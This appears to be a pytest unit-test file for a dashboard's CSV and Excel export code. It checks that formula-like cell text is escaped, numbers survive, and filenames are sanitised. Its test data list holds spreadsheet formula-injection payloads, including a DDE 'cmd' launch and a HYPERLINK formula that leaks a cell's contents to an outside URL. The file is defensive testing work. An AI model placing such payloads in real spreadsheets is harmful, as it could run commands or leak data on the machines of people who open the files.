"""Unit tests of table exports: formula injection neutralised, numbers kept.

See docs/security.md, "Data shown and exported".
"""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from dashboard.exports import export_filename, safe_cell, to_csv_bytes, to_xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://x?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\u00a0=1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_formula_like_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Plain text", "a=b", "Project -2", 42, -2.5, None])
def test_safe_cell_leaves_other_values(value):
    assert safe_cell(value) == value


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": PAYLOADS,
            "budget": [-2.5, 1000.0, 0.0, 3.0, 4.0, 5.0, 6.0, 7.0],
            "when": pd.to_datetime(["2026-01-02"] * 8),
        }
    )


def test_csv_export_round_trip_escapes_text_and_keeps_numbers():
    data = to_csv_bytes(frame())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "budget", "when"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert rows[1][1] == "-2.5" and rows[2][1] == "1000"
    assert rows[1][2] == "2026-01-02"


def test_xlsx_export_round_trip_escapes_text_and_keeps_numbers():
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame(), sheet="Projects")))
    sheet = book["Projects"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("name", "budget", "when")
    assert [r[0] for r in values[1:]] == ["'" + p for p in PAYLOADS]
    assert values[1][1] == -2.5
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_export_filename_is_safe():
    assert export_filename("../Projects list", date(2026, 11, 26), "csv") == (
        "pmo-projects-list-2026-11-26.csv"
    )
